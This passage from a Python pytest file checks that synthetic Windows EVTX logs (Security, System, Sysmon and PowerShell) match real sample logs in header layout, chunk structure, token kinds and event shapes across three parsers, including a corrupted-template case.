    _chunk_crcs(data, chunk)
    with pytest.raises(StructureError, match=f"refers to {defined + 4}, not a template defined earlier"):
        walk_file(bytes(data))
    bad = tmp_path / "bad-template.evtx"
    bad.write_bytes(bytes(data))
    kinds = types_of(log)
    with pytest.raises(KeyError):  # python-evtx looks the template up by offset and finds none
        read_python_evtx(bad, kinds)
    with pytest.raises(OSError, match="template"):
        read_libevtx(bad, kinds)
    with pytest.raises(RuntimeError, match="template"):
        read_rust(bad, kinds)
    walk_file(path.read_bytes())  # the unchanged file passes (all three parsers: the Security.evtx case above)


# --- the real thing ------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def real() -> dict[str, list[ChunkFacts]]:
    """Every real log walked by the structural reader: clean or dirty, the same rules hold in every chunk."""
    return {name: walk_file(sample(f"windows/evtx/{name}").read_bytes(), strict_types=False,
                            header_must_count=name == "PowerShell-Operational_4104.evtx") for name in REAL_LOGS}


@pytest.mark.parametrize("name", REAL_LOGS)
def test_real_logs_read_by_all_three_parsers(real, name):
    path = sample(f"windows/evtx/{name}")
    log = pyevtx.file()
    log.open(str(path))
    libevtx_events = {record.identifier: record.event_identifier for record in log.records}
    libevtx_ids = list(libevtx_events)
    log.close()
    with python_evtx.Evtx(str(path)) as parsed:
        python_events = {record.record_num(): int(ET.fromstring(record.xml()).find(f"{EVENT_NS}System")
                                                  .findtext(f"{EVENT_NS}EventID")) for record in parsed.records()}
    python_ids = list(python_events)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)  # Sysmon's preallocated empty chunks are skipped
        rust = [(entry["event_record_id"], ET.fromstring(entry["data"])) for entry in
                rust_evtx.PyEvtxParser(str(path), skip_errors=True).records()]
    rust_ids = [record_id for record_id, _ in rust]
    rust_events = {record_id: int(event.find(f"{EVENT_NS}System").findtext(f"{EVENT_NS}EventID"))
                   for record_id, event in rust}
    assert rust_events == libevtx_events
    assert python_events == {record_id: libevtx_events[record_id] for record_id in python_ids}
    walked = [record["record_id"] for chunk in real[name] for record in chunk.records]
    # libevtx and Rust walk every chunk with the ElfChnk magic, as this test's reader does; python-evtx stops
    # at the (dirty) header's chunk count, so it sees a prefix (shared/samples/windows/README.md).
    assert sorted(libevtx_ids) == sorted(rust_ids) == sorted(walked)
    assert set(python_ids) <= set(walked) and python_ids == walked[:len(python_ids)]
    assert len(libevtx_ids) == {"Security.evtx": 739, "Security_1102-single-record.evtx": 1, "System.evtx": 1881,
                                "Sysmon-Operational.evtx": 358, "PowerShell-Operational_4104.evtx": 4}[name]


def _file_header(data: bytes) -> dict:
    header_size, minor, major, block = struct.unpack_from("<IHHH", data, 32)
    return {"magic": data[:8], "header_size": header_size, "version": (major, minor), "block": block,
            "reserved": data[44:120], "padding": data[128:4096]}


def test_headers_and_chunk_layout_match_real_logs(generated):
    for name in REAL_LOGS:
        mine = _file_header(generated["Security.evtx"][0].read_bytes())
        theirs = _file_header(sample(f"windows/evtx/{name}").read_bytes())
        assert mine == theirs
    real_chunks = [data[at:at + 0x10000] for name in REAL_LOGS
                   for data in [sample(f"windows/evtx/{name}").read_bytes()] for at in range(4096, len(data), 0x10000)
                   if data[at:at + 8] == b"ElfChnk\0"]
    # header size 128, 64 reserved bytes, flags 1: the same in every real chunk, and so in every generated one
    assert len({(chunk[40:44], chunk[56:124]) for chunk in real_chunks}) == 1
    for path, _ in generated.values():
        data = path.read_bytes()
        assert (len(data) - 4096) % 0x10000 == 0
        for at in range(4096, len(data), 0x10000):
            chunk = data[at:at + 0x10000]
            assert (chunk[40:44], chunk[56:124]) == (real_chunks[0][40:44], real_chunks[0][56:124])


def test_record_layout_token_kinds_and_tables_match_real_logs(generated, real):
    mine = [chunk for path, _ in generated.values() for chunk in walk_file(path.read_bytes())]
    theirs = [chunk for chunks in real.values() for chunk in chunks]
    my_tokens = sum((chunk.tokens for chunk in mine), Counter())
    real_tokens = sum((chunk.tokens for chunk in theirs), Counter())
    assert set(my_tokens) <= set(real_tokens), f"tokens Windows never writes: {set(my_tokens) - set(real_tokens)}"
    my_types = set(sum((chunk.value_types for chunk in mine), Counter()))
    assert my_types <= set(sum((chunk.value_types for chunk in theirs), Counter()))
    assert {v.STRING, v.UINT16, v.UINT32, v.UINT64, v.FILETIME_TYPE, v.SID_TYPE, v.GUID_TYPE, v.HEX_INT64,
            v.NULL, v.BINXML} <= my_types
    for chunks in (mine, theirs):  # both kinds use both tables, and share names across templates
        assert all(chunk.strings and chunk.templates for chunk in chunks)
        assert all(len(set(chunk.strings.values())) == len(chunk.strings) for chunk in chunks)


def _shapes(chunks: list[ChunkFacts], event_id: int, computer: str) -> tuple[list, list]:
    """The System template's tokens (computer name blanked) and the payload's (name, type) of one event id."""
    for chunk in chunks:
        for record in chunk.records:
            shape = record["shape"]
            if any(token[0] == "sub" and token[1] == 3 and token[-1] == event_id for token in shape):
                blank = [("text", "<computer>") if token == ("text", computer) else token for token in shape]
                return [token[:4] if token[0] == "sub" else token for token in blank], record["fields"]
    raise AssertionError(f"no event {event_id}")


@pytest.mark.parametrize(("event_id", "ours", "theirs", "computer"), [
    (4624, "Security.evtx", "Security.evtx", "TestComputer"),
    (4688, "Security.evtx", "Security.evtx", "TestComputer"),
    (1102, "Security.evtx", "Security_1102-single-record.evtx", "TestComputer"),
    (7045, "System.evtx", "System.evtx", "WIN-P4SIAA0SQCO"),
    (4104, "Microsoft-Windows-PowerShell%4Operational.evtx", "PowerShell-Operational_4104.evtx", "SEC511"),
])
def test_event_shapes_are_those_of_real_logs(generated, real, event_id, ours, theirs, computer):
    my_system, my_fields = _shapes(walk_file(generated[ours][0].read_bytes()), event_id, MACHINE.computer)
    real_system, real_fields = _shapes(real[theirs], event_id, computer)
    assert my_system == real_system
    if event_id == 4624:  # the real one is a type 2 logon by a service: the same fields, in the same order
        assert [name for name, _ in my_fields] == [name for name, _ in real_fields]
    else:
        assert my_fields == real_fields


def lifecycle_events() -> list:
    """An administrator's logon (UAC's linked pair and 4672), its logoff, and one boot to shutdown."""
    uptime = Uptime(T0 - timedelta(hours=1), T0 + timedelta(hours=5))  # past noon: 6013
    return [*admin_logon(Logon(T0, 2, "maria", USER_SID, 0x5B9B00), 0x5B9A80, MACHINE),
            *logoff(T0 + timedelta(hours=1), "maria", USER_SID, 2, (0x5B9A80, 0x5B9B00), MACHINE),
            security_shutdown(uptime.shutdown, MACHINE),
            *uptime_events(MACHINE, uptime, uptime.shutdown, "seed", "maria", USER_SID, Execution(560, 572))]


@pytest.fixture(scope="module")
def lifecycle(tmp_path_factory) -> dict[str, tuple[Path, EventLog]]:
    folder = tmp_path_factory.mktemp("lifecycle")
    out = {}
    for name, log in build_logs(MACHINE, lifecycle_events()).items():
        log.write(folder / name)
        out[name] = (folder / name, log)
    return out


@pytest.mark.parametrize("name", ["Security.evtx", "System.evtx"])
def test_logons_logoffs_boots_and_shutdowns_read_identically(lifecycle, name):
    path, log = lifecycle[name]
    assert_read_identically(path, log)
    assert {e.event_id for e in log.events} == ({4624, 4672, 4647, 4634, 1100} if name == "Security.evtx" else
                                                {12, 6009, 6005, 7036, 6013, 1074, 6006, 13})


@pytest.mark.parametrize(("event_id", "ours", "computer"), [
    (4672, "Security.evtx", "TestComputer"), (4634, "Security.evtx", "TestComputer"),
    (12, "System.evtx", "WIN-P4SIAA0SQCO"), (13, "System.evtx", "DESKTOP-2KGM189"),
    (1074, "System.evtx", "WIN-P4SIAA0SQCO"), (6005, "System.evtx", "WIN-P4SIAA0SQCO"),
    (6006, "System.evtx", "WIN-P4SIAA0SQCO"), (6009, "System.evtx", "WIN-P4SIAA0SQCO"),
    (6013, "System.evtx", "DESKTOP-2KGM189"),
])
def test_lifecycle_event_shapes_are_those_of_real_logs(lifecycle, real, event_id, ours, computer):
    my_system, my_fields = _shapes(walk_file(lifecycle[ours][0].read_bytes()), event_id, MACHINE.computer)
    real_system, real_fields = _shapes(real[ours], event_id, computer)
    assert my_system == real_system
    assert my_fields == real_fields
